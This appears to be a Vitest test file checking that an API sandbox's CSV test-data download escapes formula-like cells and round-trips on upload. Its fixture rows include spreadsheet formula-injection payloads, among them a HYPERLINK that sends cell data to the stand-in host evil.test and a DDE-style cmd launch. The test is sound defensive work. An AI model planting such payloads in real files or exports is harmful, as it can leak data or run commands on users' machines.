import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { signUpAndVerify } from '../../test/support/accounts.js';
import { deploy } from '../../test/support/sandbox.js';
import { dialects } from '../../test/support/scratchDatabase.js';
import { startTestApp, type TestApp } from '../../test/support/testApp.js';

const ledgerYaml = `
openapi: 3.0.3
info: { title: Ledger, version: '1.0' }
paths:
  /entries:
    get:
      responses:
        '200': { description: Entries, content: { application/json: { schema: { type: array, items: { $ref: '#/components/schemas/Entry' } } } } }
components:
  schemas:
    Entry:
      type: object
      properties:
        label: { type: string }
        amount: { type: number }
`;

describe.each(dialects)('test.csv cells a spreadsheet would run, on %s', (dialect) => {
  let app: TestApp;
  let auth: { authorization: string };
  let listEntries: number;
  beforeAll(async () => {
    app = await startTestApp(dialect);
    ({ auth } = await signUpAndVerify(app));
    const sandbox = await deploy(app, auth, ledgerYaml);
    listEntries = sandbox.api.apiConfigList.find((e) => e.apiEndPoint === '/entries')?.id as number;
  });
  afterAll(() => app.close());

  const rows = [
    { label: '=HYPERLINK("http://evil.test/?"&A1,"Open")', amount: -5 },
    { label: "@SUM(1+1)*cmd|' /C calc'!A0", amount: 3.2 },
    { label: '-2+3', amount: 0 },
    { label: 'Rent', amount: -1200.5 },
  ];

  async function uploadRows(body: object) {
    return app.server.inject({
      method: 'POST',
      url: `/api/api-response/${listEntries}/test-data-upload/`,
      payload: body,
      headers: auth,
    });
  }
  async function uploadCsv(csv: string) {
    const form = new FormData();
    form.append('file', new Blob([csv], { type: 'text/csv' }), 'test.csv');
    const request = new Request('http://form.test', { method: 'POST', body: form });
    return app.server.inject({
      method: 'POST',
      url: `/api/api-response/${listEntries}/test-data-upload/`,
      payload: Buffer.from(await request.arrayBuffer()),
      headers: { 'content-type': request.headers.get('content-type') as string, ...auth },
    });
  }
  const download = () =>
    app.server.inject({ url: `/api/api-response/${listEntries}/test-sample-download`, headers: auth });

  it('downloads formula-like text behind a quote, and numbers as numbers', async () => {
    expect((await uploadRows(rows)).statusCode).toBe(200);
    const res = await download();
    expect(res.statusCode).toBe(200);
    expect(res.body.split('\r\n')).toEqual([
      'label,amount',
      `"'=HYPERLINK(""http://evil.test/?""&A1,""Open"")",-5`,
      `"'@SUM(1+1)*cmd|' /C calc'!A0",3.2`,
      `"'-2+3",0`,
      'Rent,-1200.5',
      '',
    ]);
  });

  it('uploads a downloaded file back to the same rows', async () => {
    expect((await uploadRows(rows)).statusCode).toBe(200);
    const downloaded = (await download()).body;
    const res = await uploadCsv(downloaded);
    expect(res.statusCode).toBe(200);
    expect(res.json().rows).toEqual(rows);
    expect((await download()).body).toBe(downloaded);
  });
});
